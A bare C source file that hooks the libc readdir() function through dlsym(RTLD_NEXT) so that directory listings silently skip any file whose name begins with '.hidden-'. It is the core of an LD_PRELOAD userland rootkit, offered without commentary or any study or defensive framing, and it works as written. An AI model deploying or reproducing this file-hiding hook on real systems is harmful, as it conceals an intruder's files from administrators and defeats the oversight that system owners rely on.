#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *dir) {
    struct dirent *(*next)(DIR *) = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    while ((entry = next(dir)) && strncmp(entry->d_name, ".hidden-", 8) == 0) {}
    return entry;
}
